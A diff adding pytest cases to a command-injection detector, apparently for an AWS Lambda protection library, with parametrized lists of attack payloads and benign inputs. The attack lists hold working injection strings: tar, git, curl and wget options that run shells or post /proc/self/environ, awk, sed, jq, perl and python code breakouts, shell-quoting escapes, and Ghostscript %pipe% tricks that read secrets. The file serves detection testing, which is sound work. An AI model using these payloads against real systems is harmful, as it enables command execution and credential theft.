@@ -372,3 +372,369 @@ def test_a_script_longer_than_execve_takes_is_not_read() -> None:
     assert argv(["sh", "-c", "echo x; id " + "a" * limit], "x; id") is None
     assert not ci.runnable(Command(["ls", "a" * (limit + 1)]))
     assert ci.runnable(Command(["ls", "a" * limit]))
+
+
+# ---------------------------------------------------------------- issue 11: vectors split from a string
+
+def split_vector(template: str, value: str, split=shlex.split) -> list[str]:
+    return split(template.format(value))
+
+
+# (template, payload, how the code split it, expected rule, expected word in the message)
+SPLIT_ATTACKS = [
+    ("find . -name {}", "x -exec rm {{}} ;", shlex.split, "cmdi.option", "-exec"),
+    ("find . -name {}", "x -exec rm {{}} ;", str.split, "cmdi.option", "-exec"),
+    ("find /tmp -name {}", "x\t-delete", str.split, "cmdi.option", "-delete"),
+    ("tar cf out.tar {}", "x --checkpoint=1 --checkpoint-action=exec=sh", shlex.split, "cmdi.option",
+     "--checkpoint-action"),
+    ("tar cf out.tar {}", "x '--to-command=sh -c id'", shlex.split, "cmdi.option", "--to-command"),
+    ("curl -s {}", "http://x -o /tmp/pwned", shlex.split, "cmdi.option", "-o"),
+    ("curl -s {}", "http://x  -K\n/tmp/cfg", str.split, "cmdi.option", "-K"),
+    ("git clone {} repo", "x --upload-pack=id", shlex.split, "cmdi.option", "--upload-pack"),
+    ("{} --version", "printenv AWS_SECRET_ACCESS_KEY", shlex.split, "cmdi.program", "chooses the program"),
+    ("env {}", "X=1 printenv", shlex.split, "cmdi.program", "chooses the program"),
+    ("rsync {} /tmp/dst", "src -e 'sh -c id'", shlex.split, "cmdi.option", "-e"),
+]
+
+
+@pytest.mark.parametrize(("template", "payload", "split", "rule", "word"), SPLIT_ATTACKS)
+def test_split_vector_attacks(template: str, payload: str, split, rule: str, word: str) -> None:
+    vector = split_vector(template, payload, split)
+    finding = argv(vector, payload)
+    assert finding is not None and finding.rule == rule, (vector, finding)
+    assert word in finding.message
+    inputs = Inputs([Input("query.q", payload)])
+    assert ci.Prefilter(inputs).may_inject(Command(vector))
+
+
+SPLIT_BENIGN = [
+    ("find . -name {}", "my report.pdf"),
+    ("grep -r {} /var/task/docs", "hello world"),
+    ("convert {} out.png", "photo 1.jpg"),
+    ("git log --grep {}", "fix - typo"),  # a lone dash is no option
+    ("tar cf out.tar {}", "a.txt b.txt c.txt"),
+    ("curl -s {}", "https://example.com/a b"),
+    ("echo {}", "x -exec rm {{}} ;"),  # echo has no dangerous option
+]
+
+
+@pytest.mark.parametrize(("template", "payload"), SPLIT_BENIGN)
+def test_split_vector_benign(template: str, payload: str) -> None:
+    for split in (shlex.split, str.split):
+        assert argv(split_vector(template, payload, split), payload) is None
+
+
+def test_split_forms() -> None:
+    assert ci.split_forms("a  b\tc") == ("a b c",)
+    assert ci.split_forms("x '-exec rm' y") == ("x '-exec rm' y", "x -exec rm y")
+    assert ci.split_forms("single") == ()
+    assert ci.split_forms("it's open") == ("it's open",)  # shlex refuses it: the code's split raised
+    assert ci.split_forms("a b" * ci.MAX_SPLIT_INPUT) == ()
+
+
+def test_split_forms_are_linear() -> None:
+    import time
+
+    for size in (1000, 60000):
+        value = "'a' -b " * (size // 7)
+        started = time.perf_counter()
+        ci.split_forms(value)
+        assert time.perf_counter() - started < 0.05
+
+
+# ---------------------------------------------------------------- issue 11: options, abbreviations, values
+
+OPTION_ATTACKS = [
+    (["tar", "cf", "o.tar", "--checkpoint-act=exec=sh"], "--checkpoint-act=exec=sh", "--checkpoint-action"),
+    (["git", "clone", "--upload-pa=touch /tmp/x", "r"], "--upload-pa=touch /tmp/x", "--upload-pack"),
+    (["wget", "--post-f=/proc/self/environ", "http://x"], "--post-f=/proc/self/environ", "--post-file"),
+    (["tar", "cf", "o.tar", "--to-com=sh"], "--to-com=sh", "--to-command"),
+    (["curl", "--json", "@/proc/self/environ", "http://x"], "--json", "--json"),
+    (["curl", "--url-query", "@/proc/self/environ", "http://x"], "--url-query", "--url-query"),
+    (["curl", "-s", "http://x", "--cookie-jar", "/var/task/app.py"], "--cookie-jar", "--cookie-jar"),
+    (["curl", "--unix-socket", "/var/run/docker.sock", "http://x"], "--unix-socket", "--unix-socket"),
+    (["curl", "-d", "@/proc/self/environ", "http://x"], "@/proc/self/environ", "read a file"),
+    (["curl", "--data-binary=@/proc/self/environ", "http://x"], "@/proc/self/environ", "read a file"),
+    (["curl", "-F", "f=@/proc/self/environ", "http://x"], "@/proc/self/environ", "read a file"),
+    (["curl", "-F", "f=</proc/self/environ", "http://x"], "f=</proc/self/environ", "read a file"),
+    (["curl", "-H", "@/proc/self/environ", "http://x"], "@/proc/self/environ", "read a file"),
+    (["wget", "--save-cookies=/tmp/x", "http://x"], "--save-cookies=/tmp/x", "--save-cookies"),
+    (["git", "rebase", "-x", "id", "main"], "-x", "-x"),
+    (["git", "grep", "--open-files-in-pager=id", "x"], "--open-files-in-pager=id", "--open-files-in-pager"),
+    (["git", "difftool", "--extcmd=id"], "--extcmd=id", "--extcmd"),
+    (["ssh", "-J", "evil", "host"], "-J", "-J"),
+    (["rsync", "--remove-source-files", "a", "b"], "--remove-source-files", "--remove-source-files"),
+    (["rsync", "--rsync-pa=id", "a", "b"], "--rsync-pa=id", "--rsync-path"),
+    (["zip", "-r", "--out", "/var/task/x.zip", "d"], "--out", "--out"),
+    (["find", ".", "-files0-from", "/tmp/list"], "-files0-from", "-files0-from"),
+    (["env", "--chdir=/tmp", "ls"], "--chdir=/tmp", "--chdir"),
+    (["awk", "-l", "/tmp/evil", "1"], "-l", "-l"),
+    (["gawk", "--loa=/tmp/evil", "1"], "--loa=/tmp/evil", "--load"),
+    (["perl", "-MIO::All", "-x"], "-MIO::All", "into perl"),
+    (["node", "--import=/tmp/x.mjs", "app.js"], "--import=/tmp/x.mjs", "--import"),
+    (["tar", "xf", "a.tar", "--remove-files"], "--remove-files", "--remove-files"),
+]
+
+
+@pytest.mark.parametrize(("vector", "payload", "option"), OPTION_ATTACKS)
+def test_option_attacks(vector: list[str], payload: str, option: str) -> None:
+    finding = argv(vector, payload)
+    assert finding is not None and finding.rule == "cmdi.option", finding
+    assert option in finding.message
+    assert ci.Prefilter(Inputs([Input("query.x", payload)])).may_inject(Command(vector))
+
+
+OPTION_BENIGN = [
+    (["git", "commit", "-m", "- bump"], "- bump"),  # the value of -m
+    (["git", "commit", "-m", "-update docs"], "-update docs"),
+    (["git", "log", "--grep", "-ofile"], "-ofile"),
+    (["curl", "-H", "-o /tmp/x", "http://x"], "-o /tmp/x"),  # a header value, not an option
+    (["curl", "-d", "name=bob@example.com", "http://x"], "name=bob@example.com"),  # no @file
+    (["curl", "-d", "a@b", "http://x"], "a@b"),
+    (["find", ".", "-name", "-delete"], "-delete"),  # the name searched for
+    (["tar", "cf", "o.tar", "--to"], "--to"),  # too short to stand for one option
+    (["wget", "--po"], "--po"),
+    (["git", "log", "--grep", "git"], "git"),  # a search term named like the program
+    (["git", "log", "--author", "git"], "git"),
+    (["grep", "-r", "git", "."], "git"),
+    (["ssh", "-p", "-J", "host"], "-J"),  # the port's (invalid) value
+]
+
+
+@pytest.mark.parametrize(("vector", "payload"), OPTION_BENIGN)
+def test_option_benign(vector: list[str], payload: str) -> None:
+    assert argv(vector, payload) is None
+
+
+SEARCH_TERM_SHELL = [
+    ("git log --grep {}", "git"),
+    ("grep -r {} /var/task/docs", "grep"),
+    ("file /tmp/{} ; echo file", "file"),
+    ("date -d {} +%s", "date"),
+]
+
+
+@pytest.mark.parametrize(("template", "payload"), SEARCH_TERM_SHELL)
+def test_search_term_named_like_a_program_in_a_shell_command(template: str, payload: str) -> None:
+    assert shell(template, payload) is None
+
+
+def test_program_position_still_chooses_the_program() -> None:
+    assert shell("{} log", "git").rule == "cmdi.program"
+    assert shell("{} --version", "date").rule == "cmdi.program"
+    assert argv(["git", "log"], "git").rule == "cmdi.program"
+    assert shell("{} x; echo gitx", "git").rule == "cmdi.program"  # the other occurrence is no word of its own
+
+
+# ---------------------------------------------------------------- issue 11: program text as an argument
+
+def fill(vector: list[str], value: str) -> list[str]:
+    return [arg.replace("{}", value) for arg in vector]
+
+
+# (vector with {} where the input goes, payload)
+CODE_ATTACKS = [
+    (["awk", '$1 == "{}" {print}', "f"], 'x" {system("id")} "'),
+    (["awk", '{print "{}"}', "f"], '" ENVIRON["AWS_SECRET_ACCESS_KEY"] "'),
+    (["awk", "$3 > {}", "f"], '0 {system("id")}'),
+    (["gawk", "{print $1 {} }", "f"], '| "sh"'),
+    (["awk", "-F", ",", "-v", "x=1", '{print "{}"}', "f"], '" | "sh'),
+    (["jq", '.[] | select(.name == "{}")', "f"], 'x") | env | ("'),
+    (["jq", ".{}", "f"], "x | $ENV"),
+    (["jq", ".{}", "f"], "env"),
+    (["jq", '"\\({})"', "f"], "$ENV.AWS_SECRET_ACCESS_KEY"),
+    (["sed", "s/{}/x/", "f"], "a/x/e"),
+    (["sed", "s/a/{}/", "f"], "x/e"),
+    (["sed", "-e", "s/{}/x/g", "f"], "a/x/;e id;s/b"),
+    (["sed", "/{}/d", "f"], "a/e id\n/b"),
+    (["sed", "s/a/b/{}", "f"], "w /tmp/out"),
+    (["sed", "s/a/b/{}", "f"], "ge"),  # flags: g, then e runs the pattern space
+    (["sed", "{}q", "f"], "1e"),
+    (["perl", "-e", "print '{}'"], "x'; system('id'); '"),
+    (["python3", "-c", "print('{}')"], "x'); __import__('os').system('id'); ('"),
+    (["python3", "-c", "print({})"], "__import__('os').system('id')"),
+    (["python3.12", "-c", "print({})"], "exec"),
+]
+
+
+@pytest.mark.parametrize(("vector", "payload"), CODE_ATTACKS)
+def test_program_text_attacks(vector: list[str], payload: str) -> None:
+    command = Command(fill(vector, payload))
+    finding = argv(command.argv, payload)
+    assert finding is not None and finding.rule == "cmdi.code", finding
+    assert ci.Prefilter(Inputs([Input("query.x", payload)])).may_inject(command)
+    # the same program text in a shell command, the input quoted by the shell: the program still reads it
+    script = " ".join(shlex.quote(arg) for arg in command.argv)
+    assert judge(Command([script], shell=True), payload).rule == "cmdi.code"
+
+
+CODE_BENIGN = [
+    (["awk", '$1 == "{}" {print}', "f"], "hello world (ok) | x"),
+    (["awk", "$3 > {}", "f"], "100"),
+    (["awk", "{print ${}}", "f"], "3"),
+    (["awk", "-f", "prog.awk", "{}"], 'x" {system("id")} "'),  # a file operand, not program text
+    (["awk", "-v", "q={}", '$1 == q', "f"], 'x" {system("id")} "'),  # a variable's value
+    (["jq", '.[] | select(.name == "{}")', "f"], "Bob (admin) | env"),
+    (["jq", ".{}", "f"], "name"),
+    (["jq", ".items[{}]", "f"], "2"),
+    (["jq", "--arg", "q", "{}", ".[] | select(.n == $q)", "f"], 'x") | env | ("'),
+    (["sed", "s/{}/x/g", "f"], "hello world"),
+    (["sed", "s/a/{}/g", "f"], "some replacement e w"),
+    (["sed", "-n", "/{}/p", "f"], "error"),
+    (["sed", "-f", "script.sed", "{}"], "a/x/e"),
+    (["sed", "-n", "{}p", "f"], "12"),  # a line number
+    (["python3", "-c", "print('{}')"], "it is fine"),
+    (["perl", "-e", 'print "{}"'], "x 1"),
+    (["python3", "script.py", "{}"], "x'); __import__('os')"),
+]
+
+
+@pytest.mark.parametrize(("vector", "payload"), CODE_BENIGN)
+def test_program_text_benign(vector: list[str], payload: str) -> None:
+    assert argv(fill(vector, payload), payload) is None
+
+
+def test_program_text_mask_is_linear() -> None:
+    import time
+
+    from app_protect_lambda.detectors import program_text
+
+    for language in ("awk", "jq", "sed", "python"):
+        text = '"\\(a)\\x' * 20000
+        started = time.perf_counter()
+        program_text.literal_mask(language, text)
+        assert time.perf_counter() - started < 0.5
+
+
+# ---------------------------------------------------------------- issue 11: shell forms
+
+SHELL_FORM_ATTACKS = [
+    ("rm -f '{}'", "x' '/var/task/app.py", "splits a quoted word"),
+    ('rm -f "{}"', 'x" "/var/task/app.py', "splits a quoted word"),
+    ("cp '{}' /tmp/out", "a'\t'b", "splits a quoted word"),
+    ("A={} cmd", "~/x", "tilde"),
+    ("cat --file={}", "~root/.aws/credentials", "tilde"),
+    ("PATH=/bin:{} cmd", "~/bin", "tilde"),
+    ("echo {}", "$@", "parameter expansion"),
+    ("echo {}", "$*", "parameter expansion"),
+    ("echo {}", "${a[@]}", "parameter expansion"),
+    ('echo "{}"', "${BASH_ARGV[*]}", "parameter expansion"),
+    ("echo {}", "it's", "leaves a quote open"),
+    ('echo "{}"', 'a\\"b"', "breaks out of a quoted string"),
+    ('echo "{}"', "`id`", "command substitution"),
+    ('echo "{}" x', "a\\", "escapes the character after it"),
+]
+
+
+@pytest.mark.parametrize(("template", "payload", "reason"), SHELL_FORM_ATTACKS)
+def test_shell_form_attacks(template: str, payload: str, reason: str) -> None:
+    finding = shell(template, payload)
+    assert finding is not None and finding.rule == "cmdi.shell-syntax", (template, payload)
+    assert reason in finding.message
+
+
+SHELL_FORM_BENIGN = [
+    ("echo '{}'", "a b c"),  # blanks inside the code's quotes
+    ("echo {}", "'y z'"),  # the input's own quotes keep its blank
+    ("cat x{}", "~root"),  # a tilde inside a word is a letter
+    ("echo a:{}", "b~c"),
+    ("echo {}", "a\rb"),  # Linux sh: a carriage return is no separator
+    ("echo {}", "a\fb"),  # nor a form feed
+    ("echo {}", "a\vb"),
+    ("echo {}", "C:\\\\Users"),  # no drive letters on Lambda: a backslash-escaped backslash
+    ('echo "{}"', "it's 50% off"),
+]
+
+
+@pytest.mark.parametrize(("template", "payload"), SHELL_FORM_BENIGN)
+def test_shell_form_benign(template: str, payload: str) -> None:
+    assert shell(template, payload) is None
+
+
+def test_carriage_return_and_form_feed_are_not_separators_on_linux() -> None:
+    # What the docstring says of Lambda's Linux: sh splits words at blank, tab and newline only.
+    out = subprocess.run(["sh", "-c", "printf '%s|' a\rb a\fb"], capture_output=True).stdout
+    assert out == b"a\rb|a\fb|"
+
+
+# ---------------------------------------------------------------- issue 11: tools that interpret arguments
+
+INTERPRETING_ATTACKS = [
+    (["convert", "text:/proc/self/environ", "out.png"], "text:/proc/self/environ", "'text:'"),
+    (["convert", "MSL:/tmp/x.msl", "out.png"], "MSL:/tmp/x.msl", "'msl:'"),
+    (["magick", "|id", "out.png"], "|id", "'|'"),
+    (["convert", "in.png", "label:@/etc/passwd"], "label:@/etc/passwd", "'label:@'"),
+    (["mogrify", "@/tmp/list"], "@/tmp/list", "'@'"),
+    (["convert", "ephemeral:/var/task/app.py", "out.png"], "ephemeral:/var/task/app.py", "'ephemeral:'"),
+    (["gs", "-sDEVICE=pdfwrite", "-sOutputFile=%pipe%id", "in.ps"], "%pipe%id", "'%pipe%'"),
+    (["gs", "-o", "%pipe%id", "in.ps"], "%pipe%id", "'%pipe%'"),
+    (["gs", "-dNOSAFER", "in.ps"], "-dNOSAFER", "-dNOSAFER"),
+    (["pandoc", "in.md", "--filter=/tmp/x"], "--filter=/tmp/x", "--filter"),
+    (["pandoc", "in.md", "--lua-f=/tmp/x"], "--lua-f=/tmp/x", "--lua-filter"),
+    (["pandoc", "in.md", "--pdf-engine=/tmp/x", "-o", "o.pdf"], "--pdf-engine=/tmp/x", "--pdf-engine"),
+    (["wkhtmltopdf", "--enable-local-file-access", "a.html", "o.pdf"], "--enable-local-file-access",
+     "--enable-local-file-access"),
+    (["wkhtmltopdf", "--run-script", "x", "a.html", "o.pdf"], "--run-script", "--run-script"),
+]
+
+
+@pytest.mark.parametrize(("vector", "payload", "what"), INTERPRETING_ATTACKS)
+def test_interpreting_tools_attacks(vector: list[str], payload: str, what: str) -> None:
+    finding = argv(vector, payload)
+    assert finding is not None and finding.rule == "cmdi.option", finding
+    assert what in finding.message
+    assert ci.Prefilter(Inputs([Input("query.x", payload)])).may_inject(Command(vector))
+
+
+INTERPRETING_BENIGN = [
+    (["convert", "photo.jpg", "out.png"], "photo.jpg"),
+    (["convert", "/tmp/u/text:x.png", "out.png"], "text:x.png"),  # inside a path, not a coder
+    (["convert", "in.png", "-resize", "50%", "out.png"], "50%"),
+    (["gs", "-dBATCH", "in.ps"], "-dBATCH"),
+    (["gs", "-dCompatibilityLevel=1.4", "in.ps"], "-dCompatibilityLevel=1.4"),  # no clusters in gs
+    (["ffmpeg", "-filter_complex", "x"], "-filter_complex"),
+    (["pandoc", "in.md", "--toc"], "--toc"),
+    (["convert", "label:hello", "out.png"], "hello"),  # the code's own coder, plain text from the input
+]
+
+
+@pytest.mark.parametrize(("vector", "payload"), INTERPRETING_BENIGN)
+def test_interpreting_tools_benign(vector: list[str], payload: str) -> None:
+    assert argv(vector, payload) is None
+
+
+def test_shlex_reads_a_bounded_number_of_values() -> None:
+    import time
+
+    values = tuple(f"'a' -b {index} " + "'x' " * 250 for index in range(1000))
+    started = time.perf_counter()
+    forms = ci.split_forms_of(values)
+    assert time.perf_counter() - started < 2
+    assert len(forms) == len(values) + ci.MAX_SHLEX_VALUES
+
+
+@pytest.mark.parametrize(("vector", "payload", "attack"), [
+    (["perl", "-e", 'print "{}"'], '@{[ system "id" ]}', True),
+    (["perl", "-e", 'print "{}"'], "${\\ `id`}", True),
+    (["perl", "-e", "print '{}'"], '@{[ system "id" ]}', False),  # single quotes interpolate nothing
+    (["python3", "-c", "print(f'{}')"], "{__import__('os').system('id')}", True),
+    (["python3", "-c", "print(rf'{}')"], "{os}", True),
+    (["python3", "-c", "print('{}')"], "{__import__(\"os\").system(\"id\")}", False),  # no f prefix
+    (["python3", "-c", "print(f'{}')"], "plain words", False),
+])
+def test_interpolation_inside_strings_is_code(vector: list[str], payload: str, attack: bool) -> None:
+    finding = argv(fill(vector, payload), payload)
+    assert (finding is not None and finding.rule == "cmdi.code") if attack else finding is None
+
+
+@pytest.mark.parametrize(("vector", "payload", "attack"), [
+    (["perl", "-ne", "print if /{}/", "f"], "x/; system 'id'; /", True),
+    (["perl", "-lne", "print if $_ eq '{}'", "f"], "x'; system 'id'; '", True),
+    (["sed", "-ne", "s/{}/x/p", "f"], "a/x/e;s/b", True),
+    (["python3", "-Bc", "print('{}')"], "x'); __import__('os').system('id'); ('", True),
+    (["perl", "-ne", "print if $_ eq '{}'", "f"], "plain text", False),
+    (["sed", "-ne", "s/{}/x/p", "f"], "plain text", False),
+])
+def test_program_text_after_a_cluster_of_options(vector: list[str], payload: str, attack: bool) -> None:
+    finding = argv(fill(vector, payload), payload)
+    assert (finding is not None and finding.rule == "cmdi.code") if attack else finding is None
